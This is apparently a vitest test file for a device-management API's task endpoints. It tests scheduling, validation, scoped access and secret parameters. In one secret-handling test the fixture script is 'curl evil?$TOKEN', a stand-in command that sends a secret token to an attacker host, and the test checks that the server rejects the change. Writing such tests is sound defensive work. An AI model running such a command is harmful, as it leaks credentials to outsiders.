/** POST, GET, PUT and DELETE /api/tasks, and what they refuse. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createDevice, createPerson, createPlace, type MadeDevice, type Person, type Place } from '../../factories.ts';
import { startServer, type TestServer } from '../../harness.ts';

let server: TestServer;
let place: Place;
let device: MadeDevice;

beforeAll(async () => {
  server = await startServer();
  place = await createPlace(server.db);
  device = await createDevice(server.db, { ...place, status: 'online' });
});
afterAll(() => server.stop());

const daily = { schedule_kind: 'daily', run_at_minute: 150, timezone: 'Europe/Berlin' };
const own = () => ({ name: 'Clean up', shell: 'bash', script: 'rm -rf /tmp/old', ...daily, agent_id: device.id });
const create = (more: object = {}, token?: string) =>
  server.call('POST /api/tasks', { body: { ...own(), ...more }, ...(token && { token }) });
const update = (id: string, body: object, token?: string) =>
  server.call('PUT /api/tasks/:id', { params: { id }, body, ...(token && { token }) });

test('a task is made, read, listed, changed and deleted', async () => {
  const { status, body } = await create({ args: ['-v'], env: { DEPTH: '2' } });
  expect(status).toBe(201);
  expect(body).toMatchObject({ ...own(), approval: 'approved', args: ['-v'], env: { DEPTH: '2' }, timeout_sec: 3600 });
  expect(body.agent_hostname).toBe(device.hostname);
  expect(new Date(body.next_run_at).getTime()).toBeGreaterThan(Date.now());
  const id: string = body.id;
  expect(await server.ok('GET /api/tasks/:id', { params: { id } })).toEqual(body);
  expect(
    (await server.ok('GET /api/tasks', { query: { agent_id: device.id } })).tasks.map((task) => task.id),
  ).toContain(id);
  const changed = await update(id, { name: 'Cleaner', run_at_minute: 151 });
  expect(changed.body).toMatchObject({ name: 'Cleaner', run_at_minute: 151, script: 'rm -rf /tmp/old', args: ['-v'] });
  expect((await server.call('DELETE /api/tasks/:id', { params: { id } })).status).toBe(204);
  expect((await server.call('GET /api/tasks/:id', { params: { id } })).body.code).toBe('task_not_found');
  const trail = await server.db.sql`select action from audit_entries where target_id = ${id} order by id`;
  expect(trail.map((entry) => entry.action)).toEqual(['task.create', 'task.update', 'task.delete']);
});

describe('400', () => {
  test.each([
    ['both a script of the library and a text', { script_id: '0197a000-0000-7000-8000-000000000001' }],
    ['no time for a daily task', { run_at_minute: undefined }],
    ['a time beyond the day', { run_at_minute: 1440 }],
    ['days beyond the week', { schedule_kind: 'weekly', days_of_week: [7], run_at_minutes: [0] }],
    ['an interval below a minute', { schedule_kind: 'interval', interval_sec: 59 }],
    ['a zone that is none', { timezone: 'Europe/Nowhere' }],
    ['an offset for a zone', { timezone: '+02:00' }],
    ['a short name that is no zone of IANA', { timezone: 'PST' }],
    ['two owners', { policy_id: '0197a000-0000-7000-8000-000000000001' }],
    ['no owner', { agent_id: undefined }],
    ['a moment that has passed', { schedule_kind: 'once', run_at: '2020-01-01T00:00:00Z' }],
    ['a moment in the year 10000', { schedule_kind: 'once', run_at: '9999-12-31T23:59:59-12:00' }],
    ['an unknown key', { cron: '* * * * *' }],
  ])('for %s', async (_, more) => {
    expect((await create(more)).status).toBe(400);
  });

  test('for a moment that has passed, by the name of its field', async () => {
    const { body } = await create({ schedule_kind: 'once', run_at: '2020-01-01T00:00:00Z', run_at_minute: undefined });
    expect(body.error).toBe('run_at has passed: name a moment that is still to come.');
  });

  test('for a change that does not fit what is there, or another owner', async () => {
    const { body } = await create();
    expect((await update(body.id, { schedule_kind: 'weekly' })).status).toBe(400);
    expect((await update(body.id, { shell: 'bash' })).status).toBe(200);
    expect((await update(body.id, { script: null })).status).toBe(400);
    const other = await createDevice(server.db, place);
    expect((await update(body.id, { agent_id: other.id })).body.issues[0].path).toBe('agent_id');
    expect((await update(body.id, { agent_id: device.id })).status).toBe(200);
  });
});

test('404 for a device, a policy or a script that is not there', async () => {
  const id = '0197a000-0000-7000-8000-00000000dead';
  expect((await create({ agent_id: id })).body.code).toBe('device_not_found');
  expect((await create({ agent_id: undefined, policy_id: id })).body.code).toBe('policy_not_found');
  expect((await create({ shell: undefined, script: undefined, script_id: id })).body.code).toBe('script_not_found');
});

describe('a scoped caller', () => {
  let scoped: Person;
  let foreign: MadeDevice;
  beforeAll(async () => {
    scoped = await createPerson(server.db, { scopes: [{ scope_type: 'site', scope_id: place.site_id }] });
    foreign = await createDevice(server.db, await createPlace(server.db));
  });

  test('sees and changes tasks of its devices, and no others', async () => {
    const mine = (await create({ name: 'Mine' })).body.id;
    const theirs = (await create({ name: 'Theirs', agent_id: foreign.id })).body.id;
    const { tasks } = (await server.call('GET /api/tasks', { token: scoped.token })).body;
    const ids = tasks.map((task: { id: string }) => task.id);
    expect(ids).toContain(mine);
    expect(ids).not.toContain(theirs);
    expect((await update(mine, { name: 'Mine too' }, scoped.token)).status).toBe(200);
    expect((await update(theirs, { name: 'x' }, scoped.token)).body.code).toBe('out_of_scope');
    expect((await create({ agent_id: foreign.id }, scoped.token)).body.code).toBe('out_of_scope');
    const devices = await server.call('GET /api/devices/:id/tasks', {
      params: { id: foreign.id },
      token: scoped.token,
    });
    expect(devices.status).toBe(403);
  });
});

test('a value of a secret parameter is never shown, and stays when null comes back for the same script', async () => {
  const script = await server.ok('POST /api/scripts', {
    body: {
      name: 'With secret',
      shell: 'bash',
      body: 'echo $TOKEN',
      parameters: [{ name: 'TOKEN', type: 'secret', required: true }],
    },
  });
  const text = { shell: undefined, script: undefined };
  const { body } = await create({ ...text, script_id: script.id, env: { TOKEN: 'hush' } });
  expect(body.env).toEqual({ TOKEN: null });
  expect((await update(body.id, { env: { TOKEN: null }, name: 'Renamed' })).body.approval).toBe('approved');
  const [kept] = await server.db.sql`select env from tasks where id = ${body.id}`;
  expect(kept?.env).toEqual({ TOKEN: 'hush' });
  const away = await update(body.id, { shell: 'bash', script: 'curl evil?$TOKEN', env: { TOKEN: null } });
  expect(away.body.code).toBe('secret_required');
  expect((await update(body.id, { args: [], env: {} })).body.code).toBe('invalid_parameter');
});

test('a kept secret does not come along to another script, and the other variables do', async () => {
  const script = async (parameters: object[]) =>
    (await server.ok('POST /api/scripts', { body: { name: 'Some', shell: 'bash', body: 'env', parameters } })).id;
  const first = await script([{ name: 'TOKEN', type: 'secret' }]);
  const other = await script([]);
  for (const away of [{ script_id: other }, { shell: 'bash', script: 'env' }]) {
    const env = { TOKEN: 'hush', LEVEL: '2' };
    const { body } = await create({ shell: undefined, script: undefined, script_id: first, env });
    expect((await update(body.id, { ...away, name: 'Away' })).body).toMatchObject({
      name: 'Away',
      env: { LEVEL: '2' },
    });
    const [kept] = await server.db.sql`select env from tasks where id = ${body.id}`;
    expect(kept?.env).toEqual({ LEVEL: '2' });
  }
});

test('the tasks of a device are its own and those that it inherits, with when each last ran there', async () => {
  const policy = await server.ok('POST /api/policies', { body: { name: 'Everywhere' } });
  const inherited = (await create({ name: 'Inherited', agent_id: undefined, policy_id: policy.id })).body.id;
  await server.ok('POST /api/policies/:id/assignments', {
    params: { id: policy.id },
    body: { scope_type: 'agent', scope_id: device.id },
  });
  expect((await server.call('POST /api/tasks/:id/run', { params: { id: inherited } })).status).toBe(202);
  const { tasks } = await server.ok('GET /api/devices/:id/tasks', { params: { id: device.id } });
  expect(tasks.at(-1)).toMatchObject({ id: inherited, policy_name: 'Everywhere' });
  expect(Date.parse(tasks.at(-1)?.last_run_at ?? '')).toBeGreaterThan(Date.now() - 60_000);
  expect(await server.ok('GET /api/tasks/:id/targets', { params: { id: inherited } })).toEqual({ count: 1, unable: 0 });
  const { runs } = await server.ok('GET /api/tasks/:id/runs', { params: { id: inherited } });
  expect(runs).toMatchObject([{ cause: 'manual', dispatched: 1, proposed: 0 }]);
});

test('a job that was taken back before the device fetched it is no run there', async () => {
  const own = (await create({ name: 'Taken back' })).body.id;
  await server.ok('POST /api/tasks/:id/run', { params: { id: own } });
  const { jobs } = await server.ok('GET /api/jobs', { query: { agent_id: device.id } });
  const made = jobs.find(({ task_id }) => task_id === own);
  expect((await server.call('POST /api/jobs/:id/cancel', { params: { id: made?.id ?? '' } })).status).toBe(200);
  const { tasks } = await server.ok('GET /api/devices/:id/tasks', { params: { id: device.id } });
  expect(tasks.find(({ id }) => id === own)).toMatchObject({ last_run_at: null });
});

test('lists hold no texts of scripts, which may be 256 KiB each; the task itself does', async () => {
  const { id } = (await create({ name: 'With a text' })).body;
  const { tasks } = await server.ok('GET /api/tasks', { query: { q: 'With a text' } });
  const onDevice = await server.ok('GET /api/devices/:id/tasks', { params: { id: device.id } });
  const listed = [...tasks, ...onDevice.tasks].filter((task) => task.id === id);
  expect(listed).toHaveLength(2);
  for (const task of listed) expect(task).not.toHaveProperty('script');
  expect(await server.ok('GET /api/tasks/:id', { params: { id } })).toMatchObject({ script: 'rm -rf /tmp/old' });
});

test('the calendar tells the runs ahead in order, and those that run all the time by their rhythm', async () => {
  const often = (await create({ name: 'Often', schedule_kind: 'interval', interval_sec: 60 })).body.id;
  const weekly = { schedule_kind: 'weekly', days_of_week: [1, 3], run_at_minutes: [0, 720], timezone: 'UTC' };
  const twice = (await create({ name: 'Twice', ...weekly })).body.id;
  const until = new Date(Date.now() + 7 * 86_400_000).toISOString();
  const { runs, frequent, truncated } = await server.ok('GET /api/tasks/calendar', { query: { until } });
  expect(frequent.map(({ task }) => task.id)).toContain(often);
  const own = runs.filter(({ task }) => task.id === twice);
  expect(own).toHaveLength(4);
  expect(own.every(({ at }) => [1, 3].includes(new Date(at).getUTCDay()))).toBe(true);
  expect(runs.map(({ at }) => at)).toEqual(runs.map(({ at }) => at).toSorted());
  expect(truncated).toBe(false);
  const far = new Date(Date.now() + 70 * 86_400_000).toISOString();
  expect((await server.call('GET /api/tasks/calendar', { query: { until: far } })).status).toBe(400);
});

test('a calendar of many dense schedules lets everything else have its turn', async () => {
  await server.db.sql`
    insert into tasks (name, shell, script, schedule_kind, days_of_week, run_at_minutes, timezone, agent_id, next_run_at)
    select 'Dense ' || n, 'sh', 'true', 'weekly', array[0, 1, 2, 3, 4, 5, 6], array(select m * 60 from generate_series(0, 22) m),
      'Europe/Berlin', ${device.id}, now() + interval '1 hour' from generate_series(1, 60) n`;
  let turns = 0;
  const timer = setInterval(() => turns++, 1);
  const until = new Date(Date.now() + 60 * 86_400_000).toISOString();
  const { runs, truncated } = await server.ok('GET /api/tasks/calendar', { query: { until } });
  clearInterval(timer);
  await server.db.sql`delete from tasks where name like 'Dense %'`;
  expect(turns).toBeGreaterThan(40);
  expect(runs).toHaveLength(2000);
  expect(truncated).toBe(true);
  expect(runs.map(({ at }) => at)).toEqual(runs.map(({ at }) => at).toSorted());
});

test('a schedule is previewed without being saved, and a moment that has passed has no run', async () => {
  const weekly = { schedule_kind: 'weekly', days_of_week: [0], run_at_minutes: [60], timezone: 'Asia/Kathmandu' };
  const { runs } = await server.ok('POST /api/tasks/preview', { body: weekly });
  expect(runs).toHaveLength(5);
  expect(runs.every((at) => at.endsWith('T19:15:00.000Z') && new Date(at).getUTCDay() === 6)).toBe(true);
  const once = { schedule_kind: 'once', run_at: '2020-01-01T00:00:00Z', timezone: 'UTC' };
  expect(await server.ok('POST /api/tasks/preview', { body: once })).toEqual({ runs: [] });
  expect((await server.call('POST /api/tasks/preview', { body: { ...once, script: 'true' } })).status).toBe(400);
});
